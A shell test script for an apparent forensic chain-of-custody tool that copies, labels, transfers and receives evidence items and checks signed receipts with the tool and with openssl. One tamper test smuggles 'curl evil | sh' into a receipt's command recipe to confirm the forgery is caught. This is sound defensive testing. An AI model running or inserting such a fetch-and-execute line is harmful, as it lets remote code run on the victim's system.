#!/bin/sh
# An exhibit is copied, labelled, handed over and received by somebody else with his own key and machine; receipts
# are proved alone, by ir and by openssl; a second person proves the case where there is no ir.
set -u
: "${IR:?}" "${TMPDIR:?}"
. tests/evidence.sh
there=$TMPDIR/there

recipe() { # DIR NAME: the commands that the receipt prints, as they stand there
    sed -n '/^R=/,/^$/p' "$1/$2.txt" >"$TMPDIR/recipe"
    [ "$(wc -l <"$TMPDIR/recipe")" -gt 5 ] && (cd "$1" && sh "$TMPDIR/recipe") >"$TMPDIR/out" 2>&1 &&
        grep -q 'line is in the checkpoint' "$TMPDIR/out" && grep -q 'Verified Successfully' "$TMPDIR/out"
}
check() { "$IR" evidence receipt --check "$1" >"$TMPDIR/out" 2>"$TMPDIR/err"; }

mkdir -p "$TMPDIR/src/sub" "$there"
printf a >"$TMPDIR/src/a"
printf b >"$TMPDIR/src/sub/$(printf 'new\nline')"
truncate -s 4M "$TMPDIR/src/sparse" # data in the middle and a hole at the end
printf middle | dd of="$TMPDIR/src/sparse" bs=1 seek=2097152 conv=notrunc 2>/dev/null
"$IR" evidence keys create hanako --no-passphrase >/dev/null
act collect "$TMPDIR/src" -i 1 && act collect "$TMPDIR/src" -i 2
item=$case/EV-1-01
seal=$(sha256sum <"$item/tagmanifest-sha256.txt" | cut -c 1-64)

# Copies.
mkdir "$TMPDIR/medium"
ok 'a number is needed' gives 2 act copy "$TMPDIR/medium" -i 1
ok 'copy' act copy "$TMPDIR/medium" -i 1 --number working --medium 'USB SN-1'
ok 'is identical' diff -r "$item" "$TMPDIR/medium/EV-1-01"
ok 'with its holes' [ "$(stat -c %b "$TMPDIR/medium/EV-1-01/data/fs$TMPDIR/src/sparse")" -lt 100 ]
ok 'is told' last ".event == \"copy\" and .copy_number == \"working\" and .medium == \"USB SN-1\" and .digests_equal and
    .seal == \"$seal\""
ok 'not onto another' gives 4 act copy "$TMPDIR/medium" -i 1 --number 2
says 'medium/EV-1-01: is there already'
cp -a "$case" "$TMPDIR/whole"
chmod u+w "$item/data/fs$TMPDIR/src/a" && printf x >"$item/data/fs$TMPDIR/src/a"
mkdir "$TMPDIR/medium2"
ok 'a changed one is not copied' gives 1 act copy "$TMPDIR/medium2" -i 1 --number 3
says "data/fs$TMPDIR/src/a"
chmod -R u+w "$case" && rm -rf "$case" && cp -a "$TMPDIR/whole" "$case"

# Labels.
label() { "$IR" evidence label -c CASE-1 -o "$out" -i 1 "$@" >"$TMPDIR/out" 2>"$TMPDIR/err"; }
ok 'label' label
prints "$seal"
prints '封印値'
prints '█'
ok 'label for paper' label --html
prints '<svg'
sed 's/<[^>]*>//g' "$TMPDIR/out" | tr -d ' \n' >"$TMPDIR/digits" # in groups, for who reads them aloud
ok 'and the seal' grep -qF "$seal" "$TMPDIR/digits"
if command -v xmllint >/dev/null; then
    sed -n 's/.*\(<svg.*<\/svg>\).*/\1/p' "$TMPDIR/out" >"$TMPDIR/qr.svg"
    ok 'the QR code is sound SVG' xmllint --noout "$TMPDIR/qr.svg"
fi

# Receipts.
act transfer -i 1 --to 'Taro, Lab' --means parcel --shipping-number 1234 --condition sealed
ok 'receipt' act receipt -i 1
receipts=$case/custody/receipts
R=$(basename "$(cat "$TMPDIR/out")" .txt)
ok 'its number is that of the line that tells of it' last ".receipt == \"$R\" and .seq == ${R#R-000}"
ok 'has three files, a list and a signature' \
    [ "$(cd "$receipts" && echo *)" = "$R.html $R.sha256 $R.sig $R.tlog-proof $R.txt" ]
ok 'checked' check "$receipts/$R.txt"
prints "$seal"
prints '行った人 / By: Hanako'
prints '場所 / Place: Tokyo'
prints '出来事 / Event: 引き渡し / handed over (transfer-out)'
prints '"to":"Taro, Lab"'
ok 'by openssl alone' recipe "$receipts" "$R"
ok 'which prints in the end what alone is proved' grep -q '^{"v":1,.*"event":"transfer-out"' "$TMPDIR/out"
ok 'its page shows line ends as such' lacks '。\n' "$receipts/$R.html"
ok 'its page has no script' lacks '<script' "$receipts/$R.html"
ok 'the case is proved with it' stock
ok 'ours' ours
rm -f "$receipts/$R.html" "$receipts/$R.sig"
ok 'what a crash leaves of one is noticed' gives 1 ours
ok 'the next one' act receipt -i 1
ok '… finishes it' ours
ok '… for both' stock
ok 'the proof is of the shape of C2SP' [ "$(head -n 1 "$receipts/$R.tlog-proof")" = c2sp.org/tlog-proof@v1 ]
for s in 1 2 3 4 5; do
    act receipt --seq $s
    receipt=$(cat "$TMPDIR/out")
    ok "line $s" check "$receipt"
    ok "line $s by openssl" recipe "$receipts" "$(basename "$receipt" .txt)"
done
forged() { # WHAT SED
    sed "$2" "$receipts/$R.txt" >"$TMPDIR/forged.txt"
    ok "$1 is noticed" gives 1 check "$TMPDIR/forged.txt"
}
forged 'a seal in the text' "1,20s/${seal%????????????????????????????????????????????????????????}/00000000/"
says 'forged.txt:5: '
prints "$seal"
forged 'a name in the text' '1,/^=== line/s/Hanako/Mallory/'
prints 'By: Hanako'
forged 'a command' 's/^R=/R=x; curl evil | sh; R=/'
forged 'a line' '/^{"v"/s/Hanako/Taro__/'
forged 'a hash' '/^index/{n;s/^./_/}'
forged 'an index' 's/^index .*/index 1/'
forged 'a signature' '/^— /s/.\{9\}$/AAAAAAAAA/'
forged 'a cut end' '/^=== key/,/^=== end/d'
forged 'no signature' '/^— /d'
ok 'no receipt at all' gives 1 check "$TMPDIR/src/a"

# The other side: its own machine, home and key.
cp -a "$case" "$there/"
"$IR" evidence verify -c CASE-1 -o "$there" >"$TMPDIR/out"
IR_HOME=$TMPDIR/home2
out=$there
case=$there/CASE-1
who=Taro
mkdir "$TMPDIR/own"
"$IR" evidence keys create taro --no-passphrase >/dev/null
ok 'a condition is needed' gives 2 act receive -i 1
ok 'what was not sent cannot be received' gives 2 act receive -i 2 --condition x
cp -a "$case" "$TMPDIR/whole2"
chmod u+w "$case/EV-1-01/data/fs$TMPDIR/src/a" && printf x >"$case/EV-1-01/data/fs$TMPDIR/src/a"
ok 'a changed one is refused' gives 1 act receive -i 1 --condition opened
ok 'and that is told' last '.event == "receive-refused" and (.problem_file | endswith("/src/a"))'
chmod -R u+w "$case" && rm -rf "$case" && cp -a "$TMPDIR/whole2" "$case"
ok 'receive' act receive -i 1 --from Hanako --condition 'seal unbroken' --keep "$TMPDIR/own"
receipt=$(cat "$TMPDIR/out")
ok 'signs as receiver' [ -f "$case/custody/keys/receiver.pub.pem" ]
ok 'tells that the digests are equal' jq -se 'any(.[]; .event == "transfer-in" and .recomputed == "all equal" and
    .condition_on_arrival == "seal unbroken" and .from == "Hanako" and .files_read > 5)' "$case/custody/log.jsonl"
ok 'his receipt is good' check "$receipt"
prints "$("$IR" evidence keys | cut -c 1-64)"
ok 'by openssl too' recipe "$(dirname "$receipt")" "$(basename "$receipt" .txt)"
ok 'the log is kept' cmp "$case/custody/log.jsonl" "$TMPDIR/own/"*.log.jsonl
ok 'VERIFY.txt proves the work of both' stock
line=$(jq -r 'select(.event == "receipt") | .of_seq' "$case/custody/log.jsonl" | tail -n 1)
digest=$(sed -n "${line}p" "$case/custody/log.jsonl" | tr -d '\n' | sha256sum | cut -c 1-64)
ok '… and prints what is on the last receipt' grep -qx "receipt $(basename "$receipt" .txt) line $line $digest" "$TMPDIR/stock"
ok 'VERIFY.ja.txt' stock VERIFY.ja.txt
ok '… too' grep -qF "$digest" "$TMPDIR/stock"
ok 'ours too' ours

# A second person on a machine without ir, as the manual tells it.
mkdir "$TMPDIR/bin"
# What the head of VERIFY.txt asks for, and no more.
sed -n '/any rescue system:/,/for lists/p' "$case/VERIFY.txt" | tr -d '#\n' | sed 's/.*any rescue system: //; s/ for lists of these.*//; s/[,;]//g; s/ and / /' >"$TMPDIR/needed"
for program in openssl $(cat "$TMPDIR/needed"); do
    for dir in /usr/bin /bin; do
        [ ! -x "$dir/$program" ] || ln -sf "$dir/$program" "$TMPDIR/bin/$program"
    done
done
alone() { (cd "$case" && env -i PATH="$TMPDIR/bin" HOME=/ TMPDIR="$TMPDIR" sh VERIFY.txt) >"$TMPDIR/out" 2>&1; }
ok 'without ir' alone
prints "seal EV-1-01 $seal"
prints 'all good'

chmod -R u+w "$case"
cp -a "$case" "$TMPDIR/good"
seen() { # WHAT
    [ "${2-}" = ours ] || stock_sees "$1"
    ok "$1: ir evidence verify sees it" gives 1 ours
    rm -rf "$case"
    cp -a "$TMPDIR/good" "$case"
}
receipts=$case/custody/receipts
sed -i '1s/R/r/' "$receipts/$R.txt" && seen 'a changed receipt'
sed -i 's/Tokyo/Osaka/' "$receipts/$R.html" && seen 'a changed page'
rm "$receipts/$R.txt" && seen 'a lost receipt'
rm "$receipts/$R".* && seen 'all of a receipt lost'
cp "$receipts/$(basename "$receipt" .txt).receiver.sig" "$receipts/$R.sig" && seen 'another signature'
rm "$receipts/$R.sig" && seen 'no signature'
plan
